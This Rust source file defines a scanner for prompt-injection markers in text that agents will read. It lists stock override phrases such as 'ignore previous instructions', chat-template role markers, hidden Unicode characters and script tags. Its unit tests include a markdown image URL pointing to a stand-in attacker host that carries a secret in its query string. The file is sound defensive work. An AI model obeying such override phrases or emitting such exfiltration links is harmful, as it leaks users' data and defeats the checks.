//! Detection of prompt-injection markers in text that agents will later read. A match is
//! reported by rule name only; the text itself never reaches the log.

/// Phrases that try to override an agent's instructions, matched case-insensitively after
/// collapsing whitespace.
const OVERRIDE_PHRASES: &[&str] = &[
    "ignore previous instructions",
    "ignore all previous instructions",
    "ignore the previous instructions",
    "ignore prior instructions",
    "ignore all prior instructions",
    "ignore the above instructions",
    "ignore your instructions",
    "disregard previous instructions",
    "disregard all previous instructions",
    "disregard the above",
    "disregard your instructions",
    "forget your instructions",
    "forget all previous instructions",
    "override your instructions",
    "new system prompt",
    "you are now in developer mode",
];

/// Chat-template markers of common model families.
const ROLE_MARKERS: &[&str] = &[
    "<|im_start|>",
    "<|im_end|>",
    "<|system|>",
    "<|assistant|>",
    "<|user|>",
    "<|begin_of_text|>",
    "<|start_header_id|>",
    "[inst]",
    "<<sys>>",
    "</s><s>",
];

/// Returns the names of the rules that `text` matches, in a fixed order.
pub fn scan(text: &str) -> Vec<&'static str> {
    let mut rules = Vec::new();
    let lower = text.to_lowercase();
    let collapsed = lower.split_whitespace().collect::<Vec<_>>().join(" ");

    if OVERRIDE_PHRASES
        .iter()
        .any(|phrase| collapsed.contains(phrase))
    {
        rules.push("instruction_override");
    }
    if ROLE_MARKERS.iter().any(|marker| lower.contains(marker)) {
        rules.push("role_marker");
    }
    if text
        .chars()
        .any(|c| ('\u{E0000}'..='\u{E007F}').contains(&c))
    {
        rules.push("unicode_tag_characters");
    }
    if text.chars().any(is_invisible_control) {
        rules.push("invisible_characters");
    }
    if has_exfiltration_image(text) {
        rules.push("data_exfiltration_image");
    }
    if lower.contains("<script") || lower.contains("javascript:") {
        rules.push("script_tag");
    }
    rules
}

/// Zero-width characters and bidirectional controls, which hide text from people.
fn is_invisible_control(c: char) -> bool {
    matches!(c,
        '\u{200B}'..='\u{200F}'
        | '\u{202A}'..='\u{202E}'
        | '\u{2060}'..='\u{2064}'
        | '\u{2066}'..='\u{2069}'
        | '\u{FEFF}')
}

/// A markdown image whose URL carries a query string: rendering it sends data to that host.
fn has_exfiltration_image(text: &str) -> bool {
    let mut rest = text;
    while let Some(start) = rest.find("![") {
        rest = &rest[start + 2..];
        let Some(close) = rest.find("](") else {
            return false;
        };
        let url_start = &rest[close + 2..];
        let url: &str = url_start
            .split(|c: char| c == ')' || c.is_whitespace())
            .next()
            .unwrap_or("");
        let lower = url.to_ascii_lowercase();
        if (lower.starts_with("http://")
            || lower.starts_with("https://")
            || lower.starts_with("//"))
            && url.contains('?')
            && url.contains('=')
        {
            return true;
        }
        rest = url_start;
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_matches_nothing() {
        assert!(
            scan(
                "# Deploy\n\nRun `cargo build` and ignore warnings.\n![logo](https://x.org/a.png)"
            )
            .is_empty()
        );
    }

    #[test]
    fn each_rule() {
        assert_eq!(
            scan("Please IGNORE   all previous\ninstructions."),
            ["instruction_override"]
        );
        assert_eq!(scan("<|im_start|>system"), ["role_marker"]);
        assert_eq!(scan("hidden\u{E0041}tag"), ["unicode_tag_characters"]);
        assert_eq!(scan("a\u{200B}b"), ["invisible_characters"]);
        assert_eq!(scan("a\u{202E}b"), ["invisible_characters"]);
        assert_eq!(
            scan("![x](https://evil.example/p.png?d=SECRET)"),
            ["data_exfiltration_image"]
        );
        assert_eq!(scan("<SCRIPT>alert(1)</script>"), ["script_tag"]);
    }
}
